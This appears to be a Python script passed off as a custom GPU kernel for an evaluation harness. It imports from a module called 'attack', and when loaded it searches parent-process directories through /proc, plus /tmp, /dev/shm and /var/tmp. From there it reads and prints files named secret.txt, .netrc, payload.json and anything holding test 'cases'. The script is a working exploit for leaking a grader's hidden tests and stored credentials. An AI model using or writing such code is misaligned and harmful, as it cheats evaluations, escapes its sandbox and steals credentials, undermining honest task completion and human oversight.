# Look where runners and agents keep things.
from attack import *


def go():
    out = os.environ["CUDA_ATTACK_OUT"]
    places = [out, os.path.dirname(out)] + [f"/proc/{pid}/cwd" for pid in ancestors()] + [f"/proc/{pid}/root{out}" for pid in ancestors()]
    for place in places:
        for name in ("secret.txt", ".netrc", "calls", "payload.json", "../secret.txt"):
            show(read(os.path.join(place, name)))
    work = os.path.dirname(os.path.abspath(os.environ.get("TMPDIR", ".")))
    for place in (work, os.path.dirname(work), "/tmp", "/dev/shm", "/var/tmp"):
        try:
            names = os.listdir(place)
        except OSError:
            continue
        for name in names:
            if "cases" in name or "payload" in name or "kbrun" in name:
                show(read(os.path.join(place, name)))


if warming:
    go()
custom_kernel = kernel = once(go)
